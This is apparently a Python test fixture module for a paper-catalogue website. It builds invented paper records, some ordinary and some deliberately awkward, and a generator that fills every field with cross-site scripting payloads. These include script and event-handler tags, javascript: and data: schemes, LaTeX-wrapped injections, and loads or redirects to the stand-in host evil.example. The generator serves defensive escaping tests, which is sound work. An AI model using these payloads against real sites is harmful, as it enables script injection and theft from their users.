"""An invented catalogue, hostile and ordinary papers alike, and the site over it. Every word in here is ours."""

import random
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import uvicorn
from starlette.types import ASGIApp

from broadsheet import ingest
from broadsheet import library as door
from broadsheet.library import Library
from broadsheet.web import Site, create
from tests.conftest import NOW
from tests.papers import write_lines

SUBJECTS = ("Sheep", "Teapots", "Rivers", "Clocks", "Maps", "Bridges", "Kites", "Lanterns", "Ladders", "Orchards")
WAYS = ("Counting", "Folding", "Learning from", "A Survey of", "Forgetting", "Pruning", "On the Geometry of")
PEOPLE = ("Ada Lovelace", "Grace Hopper", "Emmy Noether", "Sofia Kovalevskaya", "Lise Meitner", "Mary Somerville")

LONG = (
    "We look at few of them and say much about the rest. A bound of $O(n \\log n)$ holds for every herd of "
    "$n \\geq 2$, and no faster way exists unless all gates stand open. The constant is at most $\\frac{3}{2}$, which "
    "we reach on real meadows. Experiments on four farms, two of them in the mountains, agree with the theory to "
    "within $5\\%$. What the sheep think of it is left to others, as are goats, which do not stand still, and geese, "
    "which cannot be told apart by any method known to us. We also give away the gates, the fences and the code."
)


def ordinary(count: int = 45, day: str = "2026-11-20") -> Iterator[dict[str, object]]:
    """Papers of one day, listed in its edition."""
    for number in range(count):
        way, subject = WAYS[number % len(WAYS)], SUBJECTS[number % len(SUBJECTS)]
        yield {
            "id": f"2611.{number + 101:05}",
            "title": f"{way} {subject}, Part {number + 1}",
            "abstract": f"{subject} are hard. {LONG}",
            "authors": list(PEOPLE[: 1 + number % len(PEOPLE)]),
            "categories": [("cs.LG", "cs.CL", "math.CO", "stat.ML")[number % 4], "cs.AI"],
            "published": "2026-11-19",
            "edition": day,
            "position": number + 1,
            "votes": max(0, 40 - number),
            "comments": (number % 3) if number < 30 else 0,
        }


SPECIAL: tuple[dict[str, object], ...] = (
    {
        "id": "2611.00001",
        "title": "Counting Sheep with Sparse Attention in $O(n \\log n)$",
        "abstract": "A herd is counted by looking at few of its members. The code is at github.com/invented/sheep, "
        "the page is https://sheep.example.org/demo. " + LONG,
        "authors": ["Ada Lovelace", 'Kurt G\\"odel'],
        "categories": ["cs.LG", "cs.CL"],
        "published": "2026-11-17",
        "updated": "2026-11-18",
        "announced": "2026-11-18",
        "doi": "10.1000/SHEEP.1",
        "comment": "12 pages; see https://gitlab.com/invented/gates.",
        "journal_ref": "Journal of Invented Results 7 (2026)",
        "licence": "http://creativecommons.org/licenses/by/4.0/",
        "versions": [{"number": 1, "created": "2026-11-17"}, {"number": 2, "created": "2026-11-18"}],
        "links": ["https://huggingface.co/invented/sheep", "javascript:alert(1)"],
        "keywords": ["sheep", "sparse attention"],
    },
    {
        "id": "hep-th/9901001",
        "title": "Strings that Remember their Knots",
        "abstract": "An old-style identifier keeps its slash.",
        "authors": ["Lise Meitner"],
        "categories": ["hep-th"],
        "published": "1999-01-04",
        "withdrawn": True,
    },
    {
        "id": "10.1000/fold.7",
        "title": "Folding Maps along Rivers",
        "summary": "Maps fold badly; this one says how badly.",
        "author_count": 8,
        "published": "2026-10",
    },
    {
        "id": "10.1000/(SICI)7:1<2::AID-K3>3.0.CO;2-#?",
        "title": "Kites with a Name that no Address can Hold",
        "published": "2026-11-16",
    },
    {
        "title": "Lanterns without a Number, but with a Long and Telling Title",
        "abstract": "No identifier at all.",
        "authors": ["Mary Somerville"],
        "published": "2025",
    },
    {
        "id": "2611.00900",
        "title": "The Orchard Collaboration: A First Look at Every Tree",
        "abstract": "So many people looked at so many trees.",
        "authors": [f"Gardener {number}" for number in range(700)],
        "published": "2026-11-16",
        "categories": ["hep-ex"],
    },
    {
        "id": "2611.00901",
        "title": "كتاب الأغنام: sheep and قطيع",
        "abstract": "From right to left \u202eand back\u202c again. " * 5,
        "authors": ["إقليدس"],
        "published": "2026-11-16",
        "categories": ["math.HO"],
    },
    {
        "id": "2611.00902",
        "title": "Wide: $" + "+".join(f"x_{{{number}}}" for number in range(60)) + "$",
        "abstract": "$$" + "+".join(f"\\frac{{a_{{{number}}}}}{{b}}" for number in range(40)) + "$$ and "
        + "unbreakable" * 40 + " https://example.org/" + "long/" * 60,
        "authors": ["Emmy Noether"],
        "published": "2026-11-16",
        "categories": ["math.NT"],
    },
)  # fmt: skip


def mathematical(count: int = 30) -> Iterator[dict[str, object]]:
    """The worst for a page's size: long abstracts that are nothing but formulas."""
    for number in range(count):
        formula = f"$\\sum_{{i={number}}}^{{n}}\\frac{{\\alpha_i^2}}{{\\sqrt{{1+x_{{i}}}}}}\\leq\\mathbb{{E}}[X]$"
        yield {
            "id": f"2610.{number + 101:05}",
            "title": f"Sums {formula} of Order {number}",
            "abstract": " and ".join([formula] * 34),
            "authors": ["Sofia Kovalevskaya"],
            "categories": ["math.CO"],
            "published": "2026-10-05",
        }


# Hostile text: every way of writing a script that we know of, put into every field. If one runs, it sets window.hit.
_RUN = "window.hit=1"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input autofocus",
    "iframe",
    "math",
    "a href=#",
    "x",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\u2028javascript:", "data:text/html,", "vbscript:")
_TEX = (
    r"$\text{%s}$",
    r"$\mbox{%s}$",
    r"$\textbf{%s}$",
    r"\emph{%s}",
    r"{\it %s}",
    r"\footnote{%s}",
    r"\url{%s}",
    r"\href{%s}{x}",
    r"$\href{%s}{x}$",
    r"$\style{%s}{x}$",
    r"$\class{%s}{x}$",
    r"$\operatorname{%s}$",
    r"$$\begin{matrix}%s\end{matrix}$$",
    r"\(%s\)",
    r"$\unicode{x3c}%s$",
    "%s",
)
_BREAKS = ('">', "'>", "</title>", "</p>", "-->", "]]>", "</script>", "</math>", "</style>", "&lt;", "&#60;", "\\")


def payloads() -> list[str]:
    """A few hundred attempts, the same every time."""
    scripts = [
        f"<script>{_RUN}</script>",
        "<script src=//evil.example/x.js>",
        "<style>@import '//evil.example/x'</style>",
    ]
    scripts += [f"<{tag} {event}={_RUN}>" for tag in _TAGS for event in _EVENTS]
    scripts += [f'<a href="{scheme}{_RUN}">x</a>' for scheme in _SCHEMES]
    scripts += [f"{scheme}{_RUN}" for scheme in _SCHEMES]
    scripts += ["<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
                "<link rel=stylesheet href=//evil.example>", "<form action=//evil.example><button>x</button></form>",
                f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>", "{{7*7}}", "{% raw %}"]  # fmt: skip
    shuffle = random.Random(7)
    wrapped = [wrap % script for script in scripts for wrap in shuffle.sample(_TEX, 4)]
    return wrapped + [before + script for script in scripts[:40] for before in shuffle.sample(_BREAKS, 2)]


def hostile() -> Iterator[dict[str, object]]:
    """Papers whose every field is an attempt."""
    attempts = payloads()
    for number in range(0, len(attempts), 12):
        some = attempts[number : number + 12]
        yield {
            "id": f"2609.{number + 1:05}",
            "title": f"Hostile {some[0]} {some[1 % len(some)]}",
            "abstract": " and ".join(some),
            "authors": some[:3],
            "comment": some[-1],
            "journal_ref": some[-1],
            "licence": some[0],
            "links": some,
            "keywords": some[:4],
            "categories": ["cs.CR"],
            "published": "2026-09-15",
        }


@contextmanager
def filled(home: Path, *groups: Iterator[dict[str, object]] | tuple[dict[str, object], ...]) -> Iterator[Library]:
    """A library that holds these papers."""
    with door.open(home, clock=lambda: NOW) as library:
        filling(library, *groups)
        yield library


def filling(library: Library, *groups: Iterator[dict[str, object]] | tuple[dict[str, object], ...]) -> None:
    """Puts these papers into a library."""
    for number, group in enumerate(groups):
        path = write_lines(library.home / f"papers-{number}.jsonl", group)
        report = ingest.import_file(library.catalogue, path, now=lambda: NOW)
        assert not report.refusals
    library.follow()


def site(library: Library, **settings: object) -> ASGIApp:
    """The site as the tests see it."""
    return create(library, Site(**settings))  # type: ignore[arg-type]


@contextmanager
def served(app: ASGIApp) -> Iterator[str]:
    """A real server on a free port of this machine, in a thread; gives its address."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        server = uvicorn.Server(uvicorn.Config(app, log_level="error", lifespan="off"))
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
        thread.start()
        deadline = time.monotonic() + 10
        while not server.started and time.monotonic() < deadline:
            time.sleep(0.01)
        try:
            yield f"http://127.0.0.1:{listener.getsockname()[1]}"
        finally:
            server.should_exit = True
            thread.join(10)
